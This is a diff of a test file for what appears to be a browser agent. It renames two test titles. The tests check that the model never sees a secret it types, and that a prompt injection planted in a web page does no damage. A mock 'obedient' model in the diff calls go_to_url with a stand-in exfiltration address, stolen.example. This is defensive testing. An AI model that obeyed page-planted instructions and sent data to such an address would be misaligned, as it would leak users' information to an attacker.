@@ -21,7 +21,7 @@ describe('what a model may not know or do', () => {
   const page = { body: SHOP };
   const { run, requests } = provideModelRunner(page);
 
-  it('types a secret that the step names, and is never told it', async () => {
+  it('types a secret that the step names without seeing it', async () => {
     const type = ({ prompt }: ModelRequest, count: number): ModelReply =>
       count > 1
         ? done('The code S3cret word! was typed')
@@ -59,7 +59,7 @@ describe('what a model may not know or do', () => {
       assert.match(requests()[0]?.prompt ?? '', order);
     });
 
-    it('does no harm even with a model that obeys it', async () => {
+    it('is harmless even with a model that obeys it', async () => {
       const obedient = ({ prompt }: ModelRequest, count: number): ModelReply => {
         const ref = referenceIn(prompt, /textbox "Comment"/u);
         if (count === 1) return { tool: 'go_to_url', input: { url: 'http://stolen.example/?by=page' } };
